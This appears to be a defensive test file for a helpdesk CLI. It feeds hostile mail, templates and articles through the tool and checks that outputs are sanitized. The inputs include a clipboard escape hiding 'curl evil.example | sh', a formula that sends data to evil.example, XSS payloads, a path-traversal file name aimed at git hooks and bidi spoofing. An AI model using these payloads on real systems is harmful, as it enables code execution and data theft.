// The hostile-text corpus where strangers reach desk first: a mail taken in by `desk mail import`
// (its sender's name, subject, body and attachment names), the reply templates whose
// placeholders carry what they wrote, and the help center published from an article they
// shaped. Each output is checked for what must not appear in it (docs/safe-text.md).
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { helpdesk, type InProcessHelpdesk } from '../helpers/helpdesk.js';
import { ACME_MAIL, mailDeskYaml } from '../mail/helpers.js';
import { attachmentDir } from '../../src/core/ticket/paths.js';

const ESC = '\u001b';
const OSC = `${ESC}]0;pwned\u0007${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`;
const CSI = `${ESC}[2J${ESC}[8m\u009b2J`;
const BIDI = '\u202egpj.exe\u202c \u2066isoliert\u2069 \u200fRLM\u061c';
const TRAILER = '\n\nSigned-off-by: Chef <chef@nordlicht.example>\nCo-authored-by: X <x@evil.example>';
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")';
const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(2)>';
const SCRIPTS = 'Müller Жуков 王小明 محمد דוד 👩‍💻';

const NAME = `${OSC}Sabine ${BIDI} Vogt${CSI}${TRAILER}`;
const SUBJECT = `${FORMULA} Drucker ${OSC}${CSI}${BIDI}${TRAILER} ${SCRIPTS} ${'Ω€字ab'.repeat(400)}`;
const BODY = `Guten Tag,\n${OSC}${CSI}\rÜberschrieben ${BIDI}\n${MARKUP}\n${FORMULA}${TRAILER}\n${SCRIPTS}`;
const FILE_NAMES = [
  `rechnung${BIDI}${CSI}.pdf`,
  `../../.git/hooks/${OSC}post-commit`,
  `${'字'.repeat(200)}.pdf`, // 600 bytes in UTF-8: more than any file system takes
  `${'👩‍💻'.repeat(60)}.png`, // a cut in the middle of a character would leave half of it
  `\ufeff\u200e.${FORMULA}`,
];

/** What no terminal output may contain: C0 controls but tab and line feed, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');

/** A mail as a hostile sender writes it: every header and part a place for the corpus. */
function hostileMail(): string {
  const attachments = FILE_NAMES.map(
    (name) =>
      `--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64('PNG')}\r\n`,
  ).join('');
  return [
    `From: ${word(NAME)} <unbekannt@acme.example>`,
    'To: support@lutterbach-software.example',
    `Subject: ${word(SUBJECT)}`,
    'Date: Fri, 20 Nov 2026 10:00:00 +0100',
    'Message-ID: <hostile-1@acme.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    base64(BODY),
    `${attachments}--b--`,
    '',
  ].join('\r\n');
}

let hd: InProcessHelpdesk;
let ticket: string;
const env = { DESK_NOW: '2026-11-20T12:00:00+01:00' };

async function desk(args: string[], more: Record<string, string> = {}) {
  const r = await hd.desk(args, { env: { ...env, ...more } });
  expect(r.code, `desk ${args.join(' ').slice(0, 80)}: ${r.stderr.slice(0, 300)}`).toBe(0);
  expect(r.stdout, args.join(' ')).not.toMatch(ACTS);
  expect(r.stderr, args.join(' ')).not.toMatch(ACTS);
  return r.stdout;
}

beforeAll(async () => {
  hd = helpdesk({
    'desk.yaml': mailDeskYaml(),
    // the customer's master data was typed from a hostile form: its name fills {{customer}}
    'contracts/acme.yaml': ACME_MAIL.replace(
      'name: ACME Maschinenbau GmbH',
      `name: ${JSON.stringify(`ACME ${BIDI} ${FORMULA}`)}`,
    ),
  });
  const file = join(hd.root, '..', 'hostile.eml');
  writeFileSync(file, hostileMail());
  const out = JSON.parse(await desk(['mail', 'import', file, '--json'])) as {
    sources: { results: { action: string; ticket?: string }[] }[];
  };
  const result = out.sources[0]!.results[0]!;
  expect(result.action).toBe('opened');
  ticket = result.ticket!;
  // taken in once only; what import prints about it is checked like every output
  expect(await desk(['mail', 'import', file])).toContain('1 already taken in');
}, 120_000);
afterAll(() => hd.cleanup());

describe('a hostile mail taken in by desk mail import', () => {
  it('opens a ticket whose title and contact are one line each, without controls, in list and show', async () => {
    const state = JSON.parse(await desk(['show', ticket, '--json'])).state as Record<string, string>;
    for (const field of [state.title!, state.contact!]) {
      expect(field).not.toMatch(/[\n\r]/);
      expect(field).not.toMatch(ACTS);
    }
    expect(state.contact).toContain('Sabine');
    expect(state.contact).toContain('Signed-off-by: Chef');
    expect(state.title).toContain('Drucker');
    expect([...state.title!].length).toBeLessThanOrEqual(200);
    expect(state.title).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    // the description keeps what was written, and show shows its controls instead of running them
    expect(state.description).toContain(OSC);
    const show = await desk(['show', ticket]);
    expect(show).toContain('\\x1b]0;pwned\\x07');
    expect(show).toContain('\\u202egpj.exe');
    expect(show).toContain('&A1');
    // one row per ticket, whatever the subject held
    const list = await desk(['list', '--all']);
    expect(list.trimEnd().split('\n')).toHaveLength(2);
    expect(list).toContain('Drucker');
  });

  it('commits with a subject of one line and no trailer from the mail', () => {
    const log = execFileSync('git', ['log', '--format=%B%x00%(trailers)%x01'], { cwd: hd.root, encoding: 'utf8' });
    // eslint-disable-next-line no-control-regex
    expect(log.replace(/\u0000|\u0001/g, '')).not.toMatch(ACTS);
    for (const entry of log.split('\u0001').filter((e) => e.trim())) {
      const [message, trailers] = entry.split('\u0000') as [string, string];
      expect(message.trim().split('\n'), message.slice(0, 80)).toHaveLength(1);
      expect(trailers.trim()).toBe('');
    }
    const oneline = execFileSync('git', ['log', '--oneline'], { cwd: hd.root, encoding: 'utf8' });
    expect(oneline).not.toContain('Signed-off-by');
  });

  it('stores every attachment under a file name that is safe on disk and recorded as it is stored', async () => {
    const dir = join(hd.root, attachmentDir(ticket));
    const onDisk = readdirSync(dir);
    expect(onDisk).toHaveLength(FILE_NAMES.length);
    for (const name of onDisk) {
      expect(Buffer.byteLength(name), name).toBeLessThanOrEqual(255);
      expect(name).not.toMatch(ACTS);
      expect(name).not.toMatch(/[\ufeff\ufffd/\\]|^[.-]/);
      expect(readFileSync(join(dir, name), 'utf8')).toBe('PNG');
    }
    const opened = JSON.parse(await desk(['show', ticket, '--json'])).events[0] as {
      mail: { attachments: { name: string; file: string }[] };
    };
    // the recorded names are the names on disk: show and attachment look-ups find each file
    const recorded = opened.mail.attachments.map((a) => a.file);
    expect(recorded.sort()).toEqual([...onDisk].sort());
    expect(onDisk.some((n) => n.endsWith('.pdf') && n.includes('字'))).toBe(true);
    expect(onDisk.some((n) => n.includes('👩‍💻'))).toBe(true);
    // the original mail is kept as it came
    expect(execFileSync('git', ['status', '--porcelain'], { cwd: hd.root, encoding: 'utf8' })).toBe('');
  });
});

describe('reply templates with hostile placeholder values', () => {
  beforeAll(() => {
    mkdirSync(join(hd.root, 'templates'), { recursive: true });
    writeFileSync(
      join(hd.root, 'templates', 'eingang.de.txt'),
      '{{greeting}},\n\nIhre Anfrage {{ticket}} zu „{{title}}" für {{customer}} ist da.\n{{contact}}\n\n{{staff}}\n{{company}}\n',
    );
    execFileSync('git', ['add', 'templates'], { cwd: hd.root });
    execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@x', 'commit', '-qm', 'Vorlage'], { cwd: hd.root });
  });

  it('template list and show print nothing a terminal would run', async () => {
    expect(await desk(['template', 'list'])).toContain('eingang');
    expect(await desk(['template', 'show', 'eingang'])).toContain('{{customer}}');
    JSON.parse(await desk(['template', 'list', '--json']));
  });

  it('reply --template fills in the names as text: stored exactly, shown safely, committed as one line', async () => {
    await desk(['qualify', ticket, '--category', 'question', '--priority', 'normal']);
    const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: hd.root, encoding: 'utf8' }).trim();
    await desk(['reply', ticket, '--template', 'eingang', '--no-send']);
    const events = JSON.parse(await desk(['show', ticket, '--json'])).events as { type: string; text?: string }[];
    const reply = events.filter((e) => e.type === 'message').at(-1)!;
    expect(reply.text).toContain(`ACME ${BIDI} ${FORMULA}`);
    expect(reply.text).toContain('Sabine');
    const show = await desk(['show', ticket]);
    expect(show).toContain('ACME \\u202egpj.exe');
    const log = execFileSync('git', ['log', '--format=%B%x00%(trailers)%x01', `${head}..HEAD`], {
      cwd: hd.root,
      encoding: 'utf8',
    });
    // eslint-disable-next-line no-control-regex
    expect(log.replace(/\u0000|\u0001/g, '')).not.toMatch(ACTS);
    for (const entry of log.split('\u0001').filter((e) => e.trim())) {
      const [message, trailers] = entry.split('\u0000') as [string, string];
      expect(message.trim().split('\n')).toHaveLength(1);
      expect(trailers.trim()).toBe('');
    }
  });
});

describe('the help center published from a hostile article', () => {
  const TITLE = `${OSC}Drucker ${BIDI} ${MARKUP} ${FORMULA}`;
  const ARTICLE = `---
title: ${JSON.stringify(TITLE)}
lang: de
audience: customer
products: [lohn]
---
${OSC}${CSI}\rÜberschrieben ${BIDI}

${MARKUP}

<a href="javascript:alert(3)">klick</a> [klick](javascript:alert(4)) ![x](https://evil.example/x.png "t")

| Spalte | ${FORMULA} |
|---|---|
| \u2028Zeile\u2029 | ${SCRIPTS} |

\`\`\`
${CSI}Code</script><script>alert(5)</script>
\`\`\`

${'Ω€字ab '.repeat(2000)}
`;

  it('writes pages with no markup, script link or raw control from the article, and a search index that parses', async () => {
    mkdirSync(join(hd.root, 'kb'), { recursive: true });
    writeFileSync(join(hd.root, 'kb', 'feindlich.md'), ARTICLE.replace('![x](https://evil.example/x.png "t")', ''));
    execFileSync('git', ['add', 'kb'], { cwd: hd.root });
    execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@x', 'commit', '-qm', 'Artikel'], { cwd: hd.root });
    const out = join(hd.root, '..', 'site');
    await desk(['kb', 'publish', '--out', out]);
    const files = readdirSync(out, { recursive: true }) as string[];
    const pages = files.filter((f) => f.endsWith('.html'));
    expect(pages).toContain(join('de', 'feindlich.html'));
    for (const page of pages) {
      const html = readFileSync(join(out, page), 'utf8');
      // the site's own scripts are loaded by src=; none is written inline from the article
      expect(html.match(/<script[^>]*>/g) ?? [], page).toEqual(
        (html.match(/<script[^>]*>/g) ?? []).filter((t) => / src="[^"]+"/.test(t)),
      );
      expect(html, page).not.toMatch(/<img src=x|<[^>]+onerror=|href="javascript:/i);
      expect(html, page).not.toMatch(ACTS);
      expect(html, page).not.toMatch(/[\u2028\u2029]/);
    }
    const article = readFileSync(join(out, 'de', 'feindlich.html'), 'utf8');
    expect(article).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(article).toContain('\\u202egpj.exe');
    for (const json of files.filter((f) => f.endsWith('.json'))) {
      const text = readFileSync(join(out, json), 'utf8');
      expect(text, json).not.toMatch(ACTS);
      expect(() => JSON.parse(text), json).not.toThrow();
    }
    expect(readFileSync(join(out, 'de', 'search-index.json'), 'utf8')).toContain('Drucker');
  });

  it('refuses an image from another site with the file named, and writes nothing', async () => {
    writeFileSync(join(hd.root, 'kb', 'feindlich.md'), ARTICLE);
    const r = await hd.desk(['kb', 'publish', '--out', join(hd.root, '..', 'site2')], { env });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('feindlich');
    expect(r.stderr).not.toMatch(ACTS);
    expect(r.stderr.trim().split('\n').length).toBeLessThanOrEqual(2);
  });
});
